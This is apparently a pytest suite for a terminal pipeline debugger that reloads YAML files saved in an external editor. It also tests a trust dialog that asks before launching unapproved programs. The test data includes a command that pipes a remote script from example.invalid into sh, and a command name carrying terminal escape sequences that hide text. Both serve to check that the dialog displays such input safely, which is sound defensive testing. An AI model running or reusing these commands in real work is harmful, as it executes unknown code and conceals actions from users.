"""Files saved in an editor beside the screen: the status line says so, and `L` reads them anew."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from tests.tui.support import LOOP, RAG, Keys, Opened
from workbench.cli.trust import strangers
from workbench.cli.trust_store import read_trust
from workbench.tui.reload_dialog import Lines, MistakesDialog, ReloadDialog

Open = Callable[..., Opened]


async def saved(keys: Keys, file: Path, text: str) -> None:
    """Save a file as an editor would, and wait until the screen has noticed."""
    await keys.until(lambda: keys.opened.screen._reloading._watch is not None)
    file.write_text(text, encoding="utf-8")
    await keys.until(lambda: keys.opened.screen._model.saved_files)
    await keys.settle()


async def asks(keys: Keys) -> None:
    """Press `L`, and wait for what is told before it is read anew."""
    await keys.press("L")
    await keys.until(lambda: isinstance(keys.opened.app.screen, ReloadDialog | MistakesDialog))
    await keys.settle()


async def answers(keys: Keys, *answer: str) -> None:
    """Press keys, and wait until it has been carried out."""
    await keys.press(*answer)
    await keys.until(lambda: not keys.opened.screen._reloading._is_asking)
    await keys.settle()


def file_of(opened: Opened) -> Path:
    return opened.debugger.prepared.pipeline.file


async def test_saved_shown_and_reloaded(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG)
    async with opened.running() as keys:
        await keys.press("L")
        assert "nothing was saved since the pipeline was read" in keys.text()
        await keys.press("n", "n", "n")
        text = file_of(opened).read_text()
        await saved(keys, file_of(opened), text.replace("- lab.ask\n", "- lab.extend\n- lab.ask\n"))
        assert "lab.yaml saved: L reloads" in keys.text()
        await asks(keys)
        assert "+ 3 lab.extend" in keys.text()
        assert "2 of 3 visits are kept:" in keys.text()
        assert "step 3 lab.extend comes before visit 3 lab.ask now" in keys.text()
        await answers(keys, "n")
        assert opened.debugger.state.position == 3, "not now"
        assert "lab.yaml saved: L reloads" in keys.text()
        await asks(keys)
        await answers(keys, "y")
        assert opened.debugger.state.place.step == "3"
        assert "lab.yaml saved" not in keys.text()
        assert re.search(r"> +3 +lab.extend", keys.text())
        assert "reloaded; step 3 lab.extend comes before visit 3 lab.ask now" in keys.text()
        assert [entry.visit for entry in opened.screen._model.timeline] == [1, 2]
        await keys.press("c")
        assert opened.debugger.state.status == "finished"


async def test_the_source_and_the_tree_show_the_new_file(open_pipeline: Open) -> None:
    opened = open_pipeline(LOOP)
    async with opened.running() as keys:
        await keys.press("end")
        text = file_of(opened).read_text()
        await saved(keys, file_of(opened), text.replace("times: 5", "times: 2 # fewer").replace("- lab.search\n", ""))
        await asks(keys)
        await answers(keys, "enter")
        await keys.press("2", "full_stop", "full_stop", "full_stop")
        assert "times: 2 # fewer" in keys.text()
        assert "x 2" in keys.text()
        assert "lab.search" not in keys.text()


async def test_a_file_with_mistakes_is_not_reloaded(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG)
    async with opened.running() as keys:
        await keys.press("n")
        text = file_of(opened).read_text()
        await saved(keys, file_of(opened), text.replace("lab.ask", "lab.ask: {inputs: {}}"))
        await asks(keys)
        assert "It can't be reloaded yet" in keys.text()
        assert "inputs" in keys.text()
        await answers(keys, "y")
        assert opened.debugger.program.steps["3"].name == "lab.ask"
        await saved(keys, file_of(opened), text + "- lab.search\n")
        await asks(keys)
        await answers(keys, "y")
        assert "5" in opened.debugger.program.steps


async def test_a_parameter_file(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG)
    async with opened.running() as keys:
        await keys.press("n")
        file = file_of(opened).parent / "servers" / "lab" / "parameter.yaml"
        await saved(keys, file, file.read_text().replace("top_k: 2", "top_k: 3"))
        assert "parameter.yaml saved: L reloads" in keys.text()
        await asks(keys)
        assert "other values  lab.top_k" in keys.text()
        assert "what has run is kept" in keys.text()
        await answers(keys, "y")
        await keys.press("n")
        assert opened.debugger.evaluate("ret_psg[0] | length") == 3


async def test_while_a_step_runs_it_waits(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG.replace("lab.search", "lab.hang"))
    async with opened.running() as keys:
        await keys.until(lambda: opened.screen._reloading._watch is not None)
        await keys.press("n")
        await keys.press_at_once("n")
        await keys.until(lambda: opened.debugger.state.status == "running")
        file_of(opened).write_text(file_of(opened).read_text() + "# a comment\n")
        await keys.until(lambda: opened.screen._model.saved_files)
        await keys.press_at_once("L")
        await keys.until(lambda: "a step is running" in keys.text())
        await keys.press("x")
        await asks(keys)
        assert "nothing that runs is different" in keys.text()


async def test_what_is_saved_while_it_is_shown_is_not_lost(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG)
    async with opened.running() as keys:
        text = file_of(opened).read_text()
        await saved(keys, file_of(opened), text + "- lab.search\n")
        await asks(keys)
        file_of(opened).write_text(text + "- lab.search\n- lab.extend\n")
        await answers(keys, "y")
        assert "6" not in opened.debugger.program.steps
        await keys.until(lambda: "lab.yaml saved: L reloads" in keys.text())
        await asks(keys)
        await answers(keys, "y")
        assert "6" in opened.debugger.program.steps


async def test_undoing_an_edit_brings_the_past_back(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG)
    async with opened.running() as keys:
        await keys.press("c")
        text = file_of(opened).read_text()
        await saved(keys, file_of(opened), text.replace("- lab.ask\n", "- lab.extend\n- lab.ask\n"))
        await asks(keys)
        await answers(keys, "y")
        assert opened.debugger.state.position == 2
        await saved(keys, file_of(opened), text)
        await asks(keys)
        assert "what has run is kept; of what did not fit, 2 visits do now" in keys.text()
        await answers(keys, "y")
        assert "finished" in keys.text()
        assert re.search(r"^.reloaded +", keys.text(), re.MULTILINE), "also of a run that is over"
        assert [entry.visit for entry in opened.screen._model.timeline] == [1, 2, 3, 4]


# ---- programs that nobody has allowed yet

NEW = '{command: "evil\\e[2K\\r", args: [--token, "${SOME_TOKEN}"], env: {KEY: b}}'


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("RAGWB_TRUST")
    monkeypatch.setenv("SOME_TOKEN", "a-secret-of-mine")


async def with_a_new_command(keys: Keys, command: str = NEW) -> None:
    opened = keys.opened
    text = file_of(opened).read_text()
    text = text.replace("servers:\n", f"servers:\n  tool: {command}\n") + "- tool.go\n"
    await saved(keys, file_of(opened), text)
    await asks(keys)


def told(opened: Opened) -> str:
    """All of the dialog's text, also what is below."""
    lines = opened.app.screen.query_one(Lines)
    return "\n".join("".join(part.text for part in parts) for parts in lines._parts)


def allowed(opened: Opened) -> list[str]:
    trust = read_trust(opened.debugger.prepared.project)
    return sorted(program["alias"] for program in trust.programs.values()) + ["own"] * trust.is_own


@pytest.mark.usefixtures("asked")
async def test_new_programs_are_asked_about_first(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG, ask_about=strangers)
    async with opened.running((110, 45)) as keys:
        await with_a_new_command(keys)
        text = told(opened)
        assert text.startswith(f" {file_of(opened)} starts programs of {file_of(opened).parent}:")
        assert "tool: a command (not started before)" in text
        assert "command  'evil␛[2K␍' --token '${SOME_TOKEN}'" in text
        assert "with     SOME_TOKEN of your environment" in text
        assert "lab: a Python server, run by ragwb's own Python (not started before)" in text
        assert "begins anew  tool  new" in text
        assert "a-secret-of-mine" not in keys.text()
        assert text.index("tool: a command") < text.index("a  always:") < text.index("+ 5 tool.go")
        await answers(keys, "enter")
        assert "5" not in opened.debugger.program.steps
        assert allowed(opened) == []
        await asks(keys)
        await answers(keys, "n")
        assert "5" not in opened.debugger.program.steps
        await asks(keys)
        await answers(keys, "y")
        assert opened.debugger.program.steps["5"].name == "tool.go"
        assert allowed(opened) == ["lab", "tool"]


@pytest.mark.usefixtures("asked")
async def test_programs_that_are_always_allowed_may_be_edited(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG, ask_about=strangers)
    async with opened.running((110, 45)) as keys:
        code = file_of(opened).parent / "servers" / "lab" / "src" / "lab.py"
        for answer in ("y", "a"):
            await saved(keys, code, code.read_text() + f"# {answer}\n")
            await asks(keys)
            why = "not started before" if answer == "y" else "changed since: lab.py"
            assert f"lab: a Python server, run by ragwb's own Python ({why})" in keys.text()
            await answers(keys, answer)
        assert allowed(opened) == ["lab", "own"]
        await saved(keys, code, code.read_text() + "# more\n")
        await asks(keys)
        assert "starts programs of" not in keys.text()
        assert "begins anew  lab" in keys.text()
        await keys.press("a")
        assert opened.screen._model.saved_files, "nothing is asked about that could be allowed always"
        await answers(keys, "enter")
        assert not opened.screen._model.saved_files


@pytest.mark.usefixtures("asked")
async def test_what_is_below_must_be_seen_first(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG, ask_about=strangers)
    async with opened.running((80, 24)) as keys:
        # A word that is longer than any file's name is none of the files of the command either.
        await with_a_new_command(keys, f"{{command: ls, args: ['{'x' * 3000}', evil]}}")
        assert "there is more below: y reads on" in keys.text()
        for _ in range(8):
            await keys.press("y")
            if "a  always" in keys.text():
                break
            assert "5" not in opened.debugger.program.steps
        assert "y allows them and reloads" in keys.text()
        await answers(keys, "y")
        assert "5" in opened.debugger.program.steps


@pytest.mark.usefixtures("asked")
async def test_keys_pressed_in_haste_allow_nothing(open_pipeline: Open, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("workbench.tui.question_dialog.HASTE_SECONDS", 60)
    opened = open_pipeline(RAG, ask_about=strangers)
    async with opened.running() as keys:
        await with_a_new_command(keys)
        await keys.press("y", "a")
        assert "5" not in opened.debugger.program.steps
        assert allowed(opened) == []


async def test_who_trusts_all_is_not_asked(open_pipeline: Open) -> None:
    opened = open_pipeline(RAG, ask_about=strangers)
    async with opened.running() as keys:
        await with_a_new_command(keys, "{command: ls}")
        assert "starts programs of" not in keys.text()
        await answers(keys, "y")
        assert "5" in opened.debugger.program.steps
        assert allowed(opened) == []


def test_what_saving_changed(open_pipeline: Open, snap_compare: Any) -> None:
    opened = open_pipeline(LOOP)

    async def drive(pilot: Any) -> None:
        keys = Keys(opened, pilot)
        await keys.settle()
        await keys.press("c")
        text = file_of(opened).read_text().replace("times: 5", "times: 2").replace("- lab.search", "- lab.ask")
        await saved(keys, file_of(opened), text)
        await asks(keys)

    assert snap_compare(opened.app, terminal_size=(100, 30), run_before=drive)
    asyncio.run(opened.app.engine.close(3))


def test_whose_programs_would_start(open_pipeline: Open, snap_compare: Any) -> None:
    asks = SimpleNamespace(question=QUESTION)
    opened = open_pipeline(RAG, ask_about=lambda prepared: asks)

    async def drive(pilot: Any) -> None:
        keys = Keys(opened, pilot)
        await keys.settle()
        await with_a_new_command(keys)

    assert snap_compare(opened.app, terminal_size=(80, 24), run_before=drive)
    asyncio.run(opened.app.engine.close(3))


QUESTION = """\
/home/me/project/lab.yaml starts programs of /home/me/project:

  tool: a command (not started before)
    command  sh -c 'curl https://example.invalid/a-long-way/to/a-program/that-nobody-knows.sh | sh'
    folder   /home/me/project
    gets     KEY
    with     SOME_TOKEN of your environment

They run as you and can do what you can. Allow them if you know where this folder comes from.
  y  yes; ask again when their code changes
  a  always: I write these servers myself; ask again only for other commands
  n  no (or just Enter)"""
